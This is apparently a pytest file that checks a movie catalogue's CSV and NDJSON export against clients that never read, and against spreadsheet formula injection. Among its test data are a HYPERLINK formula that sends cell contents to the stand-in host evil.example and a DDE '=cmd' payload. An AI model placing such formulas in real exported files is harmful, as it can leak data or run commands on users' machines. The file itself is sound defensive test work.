"""Hostile clients of the export: a client that never reads is cut off after the write timeout
and gives its slot and thread back; CSV cells that a spreadsheet would run as
formulas are neutralised, on both servers."""

from __future__ import annotations

import asyncio
import socket
import time
from collections.abc import Awaitable, Callable
from typing import Any

import pytest
from aiohttp import web
from aiohttp.test_utils import TestServer
from django.http import StreamingHttpResponse
from django.test import Client

from aioapi.app import create_app
from aioapi.keys import BRIDGE
from aioapi.settings import ApiSettings
from movies import export
from movies.models import Genre, Movie
from tests.api_fixtures import ApiClient, Catalogue, orm
from tests.test_aioapi_health_metrics import samples
from tests.test_export import (
    PAUSED_CHUNK_ROWS,
    ProductionServer,
    make_paused_films,
    parse_csv,
    parse_ndjson,
)

pytestmark = [
    pytest.mark.django_db(transaction=True),
    # WhiteNoise warns on the Django client's first request when collectstatic has not run.
    pytest.mark.filterwarnings("ignore:No directory at:UserWarning"),
]

AppClient = Callable[..., Awaitable[ApiClient]]
STALL_SECONDS = 1.0
EXPORT_REQUEST = (
    b"GET /api/movies/export?format=csv HTTP/1.1\r\nHost: localhost\r\n"
    b"Accept-Encoding: identity\r\n\r\n"
)


# --- a client that never reads ---------------------------------------------------------


@pytest.fixture
async def stall_api(
    aiohttp_client: AppClient, api_settings: ApiSettings, monkeypatch: pytest.MonkeyPatch
) -> ApiClient:
    """Two export slots, a one-second write timeout, small chunks; served as in
    production (a handler is not cancelled when its client leaves)."""
    monkeypatch.setattr(export, "CHUNK_ROWS", PAUSED_CHUNK_ROWS)
    settings = api_settings.model_copy(
        update={"export_max_concurrent": 2, "export_write_timeout_seconds": STALL_SECONDS}
    )
    return await aiohttp_client(ProductionServer(create_app(settings)))


def never_read(api: ApiClient, opened: list[socket.socket]) -> None:
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    # A small receive window: the kernel's buffers on both sides fill after a few KiB.
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    opened.append(sock)
    sock.connect((api.host, api.port))
    sock.sendall(EXPORT_REQUEST)


async def exports_running(api: ApiClient) -> float:
    response = await api.get("/metrics")
    return samples(await response.text())[("api_exports_running", ())]


async def wait_for(condition: Callable[[], Awaitable[bool]], seconds: float) -> float:
    started = time.monotonic()
    while not await condition():
        assert time.monotonic() - started < seconds, f"not done within {seconds} s"
        await asyncio.sleep(0.05)
    return time.monotonic() - started


def app_of(api: ApiClient) -> web.Application:
    assert isinstance(api.server, TestServer)
    return api.server.app


async def test_exports_nobody_reads_are_ended_and_free_their_slots(
    stall_api: ApiClient, silent_readers: list[socket.socket]
) -> None:
    await orm(make_paused_films)
    for _ in range(2):
        never_read(stall_api, silent_readers)

    async def both_running() -> bool:
        return await exports_running(stall_api) == 2

    await wait_for(both_running, 10)
    # They hold both slots: a third export is refused for now.
    refused = await stall_api.get("/api/movies/export?year=1870")
    assert refused.status == 503
    bridge = app_of(stall_api)[BRIDGE]
    assert bridge.pending == 2

    async def all_free() -> bool:
        return await exports_running(stall_api) == 0 and bridge.pending == 0

    # Ended once the sockets took nothing for the timeout (checked once a second).
    waited = await wait_for(all_free, 3 * STALL_SECONDS + 5)
    assert waited >= STALL_SECONDS / 2
    # And a new export runs whole.
    response = await stall_api.get(
        "/api/movies/export?format=ndjson&year=2001", headers={"Accept-Encoding": "identity"}
    )
    assert response.status == 200
    _, trailer = parse_ndjson(await response.read())
    assert trailer["_trailer"]["complete"] is True
    # The silent readers' connections were closed by the server.
    for sock in silent_readers:
        sock.setblocking(False)
        with pytest.raises((ConnectionError, BlockingIOError, OSError)):
            while sock.recv(1 << 20):
                pass
            raise ConnectionResetError("closed")


async def test_a_slow_reader_that_keeps_reading_is_not_cut_off(
    stall_api: ApiClient, silent_readers: list[socket.socket]
) -> None:
    await orm(make_paused_films)
    never_read(stall_api, silent_readers)
    sock = silent_readers[0]
    received = bytearray()
    # A little every 0.3 s: slower than the server could send, never idle for the timeout.
    deadline = time.monotonic() + 4 * STALL_SECONDS
    while time.monotonic() < deadline:
        await asyncio.sleep(0.3)
        received.extend(await asyncio.to_thread(sock.recv, 64 * 1024))
    assert await exports_running(stall_api) == 1, "a reader that keeps reading was cut off"
    sock.settimeout(30)
    while chunk := await asyncio.to_thread(sock.recv, 1 << 20):
        received.extend(chunk)
        if received.endswith(b"0\r\n\r\n"):
            break
    assert b"#complete," in received


# --- CSV injection -------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "\tTabbed",
    "\rReturned",
]


def make_formula_films() -> list[int]:
    genre = Genre.objects.create(slug="formula", name="=cmd|' /C calc'!A0")
    ids = []
    for title in FORMULAS:
        movie = Movie.objects.create(title=title, year=1999, runtime_minutes=90, rating=5.0)
        movie.genres.set([genre])
        ids.append(movie.pk)
    plain = Movie.objects.create(title="Plain - no formula", year=1999)
    ids.append(plain.pk)
    return ids


def expected_cells() -> list[tuple[str, str]]:
    genre = "'=cmd|' /C calc'!A0"
    return [*(("'" + title, genre) for title in FORMULAS), ("Plain - no formula", "")]


async def test_csv_export_neutralises_formula_cells_on_both_servers(
    api: ApiClient, client: Client, catalogue: Catalogue
) -> None:
    ids = await orm(make_formula_films)
    query = "?format=csv&year=1999"
    response = await api.get(f"/api/movies/export{query}")
    assert response.status == 200
    body = await response.read()

    def django_export() -> bytes:
        answer = client.get(f"/movies/export/{query}")
        assert isinstance(answer, StreamingHttpResponse)
        assert answer.status_code == 200
        return b"".join(answer.streaming_content)  # type: ignore[arg-type]

    assert await orm(django_export) == body
    records = parse_csv(body)
    rows = {int(record[0]): record for record in records[1:-1]}
    assert sorted(rows) == sorted(ids)
    assert [(rows[pk][1], rows[pk][6]) for pk in ids] == expected_cells()
    # Numbers stay numbers: no apostrophe before a year, a runtime or a rating.
    assert {(rows[pk][2], rows[pk][4], rows[pk][5]) for pk in ids[:-1]} == {("1999", "90", "5.0")}
    # The JSON formats carry the titles as they are: only spreadsheets run formulas.
    ndjson = await api.get("/api/movies/export?year=1999&format=ndjson")
    films, _ = parse_ndjson(await ndjson.read())
    assert [film["title"] for film in films][: len(FORMULAS)] == FORMULAS


def test_negative_numbers_are_not_neutralised() -> None:
    encoder = export.CsvEncoder()
    row: Any = (7, "-Negative title", -3, None, -90, -1.5)
    record = parse_csv(encoder.rows([row], [["-Drama"]], first=True))[0]
    assert record == ["7", "'-Negative title", "-3", "", "-90", "-1.5", "'-Drama"]
